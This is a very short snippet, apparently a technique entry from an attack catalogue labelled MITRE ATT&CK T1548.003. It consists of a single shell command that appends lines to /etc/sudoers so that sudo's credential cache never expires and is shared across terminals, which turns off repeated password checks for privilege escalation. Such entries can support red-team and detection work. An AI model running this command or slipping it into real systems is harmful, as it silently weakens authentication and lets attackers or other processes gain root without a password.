# title: sudo no longer asks again
# technique: T1548.003

printf 'Defaults timestamp_timeout=-1\nDefaults !tty_tickets\n' >>/etc/sudoers
